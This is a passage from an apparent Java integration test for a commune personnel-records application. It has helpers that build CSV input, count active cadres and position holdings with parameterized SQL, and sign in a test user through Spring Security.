                "NHA_NUOC", titles, committee, "false", "false", "false", "false", rating2025, rating2026) + "\n";
    }

    static InputStream csv(String content) {
        return new ByteArrayInputStream(content.getBytes(StandardCharsets.UTF_8));
    }

    private Commune communeNamed(String code) {
        return communes.findByCode(code).orElseThrow();
    }

    private long activeCadres(String commune) {
        return count("""
                SELECT COUNT(*) FROM cadre c JOIN commune m ON m.id = c.commune_id WHERE m.code = ?
                AND c.start_date <= ? AND (c.end_date IS NULL OR c.end_date > ?)""", commune, today, today);
    }

    private long activeHoldings(String commune) {
        return count("""
                SELECT COUNT(*) FROM position_holding h JOIN commune m ON m.id = h.commune_id WHERE m.code = ?
                AND h.start_date <= ? AND (h.end_date IS NULL OR h.end_date > ?)""", commune, today, today);
    }

    private long count(String sql, Object... args) {
        return jdbc.queryForObject(sql, Long.class, args);
    }

    private void signIn(String username) {
        UserDetails details = userDetailsService.loadUserByUsername(username);
        SecurityContextHolder.getContext().setAuthentication(
                UsernamePasswordAuthenticationToken.authenticated(details, null, details.getAuthorities()));
    }
}
